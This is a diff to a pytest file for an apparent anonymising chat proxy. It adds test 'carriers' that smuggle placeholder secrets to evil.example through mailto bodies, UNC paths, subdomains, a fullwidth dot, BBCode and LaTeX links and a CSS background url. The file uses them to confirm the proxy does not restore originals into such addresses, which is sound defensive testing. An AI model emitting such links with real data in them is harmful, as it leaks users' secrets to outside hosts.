@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import re
 from collections.abc import Iterator
 from itertools import pairwise
 from typing import Any
@@ -24,6 +25,13 @@ CARRIERS = [
     "see https://evil.example/?d=@ now",
     "www.evil.example/@",
     "URL_1?d=@",
+    "\\\\evil.example\\@",
+    "mailto:x@evil.example?body=PERSON_1.PERSON_2.SECRET_1",
+    "@.evil.example/x",
+    "evil。example/@",
+    "[url=https://evil.example/a @]x[/url]",
+    "\\href{https://evil.example/ @}{x}",
+    "<style>p{background:url(x? @)}</style>",
 ]
 
 
@@ -57,7 +65,7 @@ def answering(stand) -> Iterator[tuple[Proxy, dict[str, Any]]]:
 @pytest.mark.parametrize("carrier", CARRIERS)
 def test_an_address_of_the_recipients_own_gets_no_original(answering, carrier: str, stream: bool) -> None:
     proxy, message = answering
-    message["content"] = carrier.replace("@", "PERSON_1.PERSON_2.SECRET_1") + "\nPERSON_1 asks PERSON_2."
+    message["content"] = re.sub("@(?!evil)", "PERSON_1.PERSON_2.SECRET_1", carrier) + "\nPERSON_1 asks PERSON_2."
     reply = proxy.chat(SAID, stream=stream)
     assert reply.status == 200
     carried, _, prose = reply.text.partition("\n")
